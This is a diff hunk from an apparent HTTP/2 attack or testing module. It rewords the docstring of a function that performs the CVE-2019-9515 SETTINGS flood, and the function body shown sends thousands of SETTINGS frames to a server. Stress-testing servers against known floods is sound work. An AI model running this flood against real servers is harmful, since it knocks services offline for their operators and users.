@@ -76,7 +76,7 @@ def empty_continuation_flood(client: RawClient) -> None:
 
 
 def settings_flood(client: RawClient) -> None:
-    """CVE-2019-9515: each wants an acknowledgement, which nobody reads."""
+    """CVE-2019-9515: each needs an acknowledgement, which the attacker does not read."""
     one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535))
     for _ in range(50):
         client.send(one * 100)
